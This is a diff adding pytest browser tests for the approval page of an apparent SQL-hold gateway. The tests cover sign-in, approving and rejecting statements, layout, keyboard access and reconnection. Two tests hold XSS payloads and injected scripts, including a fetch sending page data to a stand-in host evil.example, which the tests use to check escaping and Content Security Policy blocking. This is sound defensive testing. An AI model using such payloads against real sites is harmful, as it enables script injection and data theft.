@@ -1,0 +1,302 @@
+"""The page for people who decide, in a real browser.
+
+These run where a Chromium is found; elsewhere they are skipped and say what is missing.
+"""
+
+import asyncio
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import psycopg
+import pytest
+
+from gateway.api.server import ManagementServer
+from gateway.config import Role
+from gateway.demo.server import free_port
+from gateway.holds import HoldState
+from tests.gateway.management import PASSWORD, Desk, management
+from tests.support.browser import MISSING, Browser, Page, chromium, open_browser
+from tests.support.gateway import SHOP_POLICY, make_config, running_gateway
+from tests.support.postgres import Postgres
+
+PROGRAM = chromium()
+pytestmark = [pytest.mark.skipif(PROGRAM is None, reason=MISSING), pytest.mark.timeout(90)]
+
+MARKUP = "<img src=x onerror='window.hacked=1'><script>window.hacked=1</script>"
+LIVE = "document.querySelector('#link').textContent === 'Live'"
+
+
+@pytest.fixture
+async def browser() -> AsyncIterator[Browser]:
+    assert PROGRAM is not None
+    async with open_browser(PROGRAM) as opened:
+        yield opened
+
+
+@pytest.fixture
+async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
+    async with management(tmp_path, admin={"port": free_port()}) as running:
+        yield running
+
+
+async def sign_in(page: Page, desk: Desk, user: str, address: str = "/") -> None:
+    """Sign in by password, as a person does."""
+    await page.goto(f"{desk.url}{address}")
+    await page.type("#user", user)
+    await page.type("#password", PASSWORD)
+    await page.press("Enter")
+    await page.until(LIVE)
+    # The browser notes the 401 by which the page finds out that nobody is signed in.
+    page.problems.clear()
+
+
+async def cards(page: Page, number: int) -> None:
+    """Return once so many holds are shown as waiting."""
+    await page.until(f"document.querySelectorAll('#pending .hold').length === {number}")
+
+
+async def test_the_whole_story(browser: Browser, tmp_path: Path, postgres: Postgres, database: str) -> None:
+    """A sign-in link, an empty list, an approval and a rejection, with a real client at the other end."""
+    async with (
+        running_gateway(tmp_path, make_config(postgres, SHOP_POLICY)) as gateway,
+        await gateway.psycopg(database, application_name="a tool") as client,
+    ):
+        page = await browser.page()
+        await page.goto(await gateway.gateway.management.sign_in_link("carol"))
+        assert "This link signs you in on this browser. It works once." in await page.text("main")
+        await page.click("button")
+        await page.until(LIVE)
+        assert await page.text("#who-name") == "carol (approver, viewer)"
+        assert await page.text("#pending-none") == "Nothing waits. A held statement appears here by itself."
+        assert await page.text("#recent-none") == "Nothing yet."
+
+        sql = "DELETE FROM customer WHERE customer_id = %s"
+        deleting = asyncio.ensure_future(client.execute(sql, [42]))
+        await cards(page, 1)
+        assert await page.text(".title") == f"DELETE by postgres on {database}"
+        assert await page.text(".sql") == "DELETE FROM customer WHERE customer_id = $1"
+        assert await page.text(".values") == "42"
+        assert await page.text(".origin") == "127.0.0.1, a tool"
+        assert (await page.text(".countdown")).startswith("expires in 14:5")
+        assert await page.evaluate("document.title") == "(1) Holdgate"
+
+        await page.click(".approve")
+        assert (
+            await page.text(".question")
+            == "Approve this DELETE by postgres? It runs at once, exactly as shown."
+        )
+        await page.click(".yes")
+        assert (await deleting).statusmessage == "DELETE 1"
+        await cards(page, 0)
+        assert await page.text("#banner") == "Approved: DELETE by postgres."
+        await page.until("document.querySelector('#recent tbody tr')?.innerText.includes('DELETE 1')")
+        row = await page.text("#recent tbody tr")
+        assert "approved" in row
+        assert "$1 = 42" in row
+
+        reading = asyncio.ensure_future(client.execute("SELECT email FROM customer"))
+        await cards(page, 1)
+        await page.click(".reject")
+        assert await page.text(".hold .error") == "Say why: the requester reads the reason."
+        await page.type(".reason", "ask for a single customer instead")
+        await page.click(".reject")
+        await page.click(".yes")
+        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="rejected by carol: ask for a single"):
+            await reading
+        await page.until("document.querySelector('#recent tbody tr').innerText.includes('nothing was run')")
+        assert "ask for a single customer instead" in await page.text("#recent tbody tr")
+        assert page.problems == []
+
+
+async def test_hostile_text_is_text(browser: Browser, desk: Desk) -> None:
+    await desk.open(
+        sql=f"SELECT '{MARKUP}' -- \u202e\x1b[2J\u200b\ud800",
+        parameters=(MARKUP, None, "\u2066a\x00"),
+        user=MARKUP,
+        groups=(MARKUP,),
+        application_name=MARKUP,
+        database=MARKUP,
+        relations=(MARKUP,),
+        columns=(MARKUP,),
+        rule=MARKUP,
+        reason=MARKUP,
+    )
+    page = await browser.page()
+    await sign_in(page, desk, "carol")
+    await cards(page, 1)
+    for part in (".title", ".asker", ".database", ".origin", ".rule", ".why", ".effects", ".sql", ".values"):
+        assert MARKUP in await page.text(part), part
+    assert await page.text(".sql") == f"SELECT '{MARKUP}' -- \\u202e\\u001b[2J\\u200b\\ud800"
+    assert "Look closely: " in await page.text(".hidden-note")
+    # What was decided, and why, is shown as harmlessly.
+    await page.type(".reason", MARKUP)
+    await page.click(".reject")
+    await page.click(".yes")
+    await page.until("document.querySelector('#recent tbody tr')")
+    assert (await page.text("#recent tbody tr")).count(MARKUP) >= 3
+    assert await page.evaluate("window.hacked") is None
+    assert await page.evaluate("document.querySelectorAll('main img, main script').length") == 0
+    assert page.problems == []
+
+
+async def test_the_policy_of_the_page_stops_what_would_get_in(browser: Browser, desk: Desk) -> None:
+    page = await browser.page()
+    await sign_in(page, desk, "carol")
+    for attack in (
+        "const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s)",
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')",
+        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"javascript:parent.hacked = 1\"></iframe>')",
+        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
+        "fetch('https://evil.example/?' + document.title).catch(() => 0)",
+    ):
+        page.problems.clear()
+        await page.evaluate(f"(() => {{ {attack} }})()")
+        async with asyncio.timeout(10):
+            while not any("Content Security Policy" in problem for problem in page.problems):
+                await asyncio.sleep(0.02)
+    assert await page.evaluate("window.hacked") is None
+
+
+async def test_who_cannot_decide_reads_why(browser: Browser, desk: Desk) -> None:
+    await desk.open()
+    for user, says in (
+        ("vic", "Deciding takes the role approver."),
+        ("erin", "Deciding takes a member of dpo."),
+        ("alice", "This is your own statement: somebody else decides."),
+    ):
+        page = await browser.page()
+        await sign_in(page, desk, user)
+        await cards(page, 1)
+        assert await page.text(".cannot") == says
+        assert not await page.visible(".approve")
+        assert not await page.visible(".reject")
+        assert await page.visible("#banner") is (user == "vic")
+
+
+async def test_it_fits_into_a_narrow_window(browser: Browser, desk: Desk) -> None:
+    long = "x" * 400
+    ended = await desk.open(sql=long, user=long, reason=long)
+    await desk.holds.end(ended.id, HoldState.ABANDONED, long)
+    await desk.open(
+        sql=f"SELECT {long}\n" * 50,
+        user=long,
+        application_name=long,
+        parameters=(long,) * 30,
+        relations=(long,),
+    )
+    page = await browser.page(320, 640)
+    await sign_in(page, desk, "carol")
+    await cards(page, 1)
+    for width in (320, 480, 740, 1100):
+        await page.resize(width, 640)
+        assert await page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), width
+    # Whatever the length of the statement, the buttons are on the page and can be pressed.
+    await page.click(".approve")
+    assert await page.visible(".yes")
+    assert page.problems == []
+
+
+async def test_it_can_be_used_without_a_mouse(browser: Browser, desk: Desk) -> None:
+    hold = await desk.open()
+    page = await browser.page()
+    await sign_in(page, desk, "carol")
+    await cards(page, 1)
+
+    async def tab_to(selector: str) -> None:
+        for _ in range(20):
+            if await page.evaluate(f"document.activeElement.matches('{selector}')"):
+                return
+            await page.press("Tab")
+        raise AssertionError(f"{selector} is not reached by Tab")
+
+    await tab_to(".approve")
+    await page.press("Enter")
+    assert await page.evaluate("document.activeElement.matches('.yes')")
+    await page.press("Escape")
+    assert await page.evaluate("document.activeElement.matches('.approve')")
+    await page.press("Enter")
+    await page.press("Enter")
+    await cards(page, 0)
+    assert (await desk.holds.get(hold.id)).state is HoldState.APPROVED
+    # What has happened is said to whoever does not see it.
+    assert await page.evaluate("document.querySelector('#banner').getAttribute('role')") == "alert"
+
+
+@pytest.mark.parametrize("address", ["/#{}", "/holds/{}"])
+async def test_a_link_in_a_notice_leads_to_its_hold(browser: Browser, desk: Desk, address: str) -> None:
+    for _ in range(8):
+        await desk.open(sql="SELECT 1\n" * 30)
+    hold = await desk.open()
+    page = await browser.page()
+    await sign_in(page, desk, "carol", address.format(hold.id))
+    await cards(page, 9)
+    await page.until(f"document.activeElement.closest('.hold')?.dataset.id === '{hold.id}'")
+    assert await page.evaluate("document.activeElement.getBoundingClientRect().top < window.innerHeight")
+    await desk.holds.end(hold.id, HoldState.WITHDRAWN, "canceled")
+    await cards(page, 8)
+    await page.goto(f"{desk.url}/")
+    await page.until(LIVE)
+    await page.goto(f"{desk.url}{address.format(hold.id)}")
+    await page.until("!document.querySelector('#banner').hidden")
+    assert (
+        await page.text("#banner")
+        == f"{hold.id} does not wait any more. It may be among those that ended, below."
+    )
+
+
+async def test_signing_in_and_out(browser: Browser, desk: Desk) -> None:
+    page = await browser.page()
+    await page.goto(desk.url)
+    await page.type("#user", "carol")
+    await page.type("#password", "wrong")
+    await page.press("Enter")
+    await page.until("!document.querySelector('#sign-in-error').hidden")
+    assert await page.text("#sign-in-error") == "The user name or the password is wrong."
+    await page.type("#password", PASSWORD)
+    await page.press("Enter")
+    await page.until(LIVE)
+    assert not await page.visible("#sign-in")
+    await page.click("#sign-out")
+    await page.until("!document.querySelector('#sign-in').hidden")
+    assert await page.text("#banner") == "You have signed out."
+    assert not await page.visible("#desk")
+
+
+async def test_whoever_comes_second_is_told(browser: Browser, desk: Desk) -> None:
+    hold = await desk.open()
+    page = await browser.page()
+    await sign_in(page, desk, "carol")
+    await cards(page, 1)
+    await page.click(".approve")
+    # Between the two presses somebody else was quicker; that this page hears of it is held back.
+    desk.bus.detach(next(iter(desk.bus._subscriptions)))
+    async with await desk.client("dave", Role.APPROVER) as dave:
+        await dave.post(f"/api/v1/holds/{hold.id}/reject", json={"reason": "no"})
+    await page.click(".yes")
+    await page.until("document.querySelector('#banner').textContent.startsWith('Too late.')")
+    assert await page.text("#banner") == "Too late. The hold is already rejected by dave."
+    await cards(page, 0)
+
+
+async def test_a_gateway_that_goes_and_comes_back(browser: Browser, desk: Desk) -> None:
+    await desk.open()
+    page = await browser.page()
+    await sign_in(page, desk, "carol")
+    await cards(page, 1)
+    await desk.server.stop()
+    await page.until("document.querySelector('#link').textContent.startsWith('Connection lost')")
+    assert await page.evaluate("[...document.querySelectorAll('.decide button')].every((b) => b.disabled)")
+    desk.server = ManagementServer(desk.server._services)
+    await desk.server.start()
+    try:
+        # Browsers are signed in to one process; the page says so instead of showing what is old.
+        await page.until("!document.querySelector('#sign-in').hidden")
+        assert await page.text("#banner") == "You are signed out. Sign in to go on."
+        # The name is still there.
+        await page.until("document.activeElement.id === 'password'")
+        await page.type("#password", PASSWORD)
+        await page.press("Enter")
+        await page.until(LIVE)
+        await cards(page, 1)
+    finally:
+        await desk.server.stop()
